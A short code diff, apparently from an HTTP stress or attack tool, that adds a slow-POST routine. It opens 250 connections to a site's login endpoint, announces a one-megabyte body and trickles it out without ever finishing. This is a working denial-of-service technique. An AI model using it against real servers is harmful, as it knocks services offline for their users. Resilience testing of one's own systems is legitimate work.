@@ -44,6 +44,13 @@ async def slow_bodies(target: Target) -> None:
     await _drop_by_drop(target, head + b"\r\n", b" ", connections=400)
 
 
+async def large_logins(target: Target) -> None:
+    """A megabyte each to where people log in, who have no key yet, and never the last byte of it."""
+    form = b"Content-Type: application/x-www-form-urlencoded\r\nSec-Fetch-Site: same-origin\r\n"
+    head = target.head("POST", "/ui/login", form, b"Content-Length: 1040000\r\n") + b"\r\n"
+    await _drop_by_drop(target, head + b"name=a&password=" + b"%41" * 346_000, b"a", connections=250)
+
+
 async def _drop_by_drop(target: Target, head: bytes, drop: bytes, *, connections: int) -> None:
     async def one(number: int) -> None:
         async with connected(target, source(number, 8)) as (reader, writer):
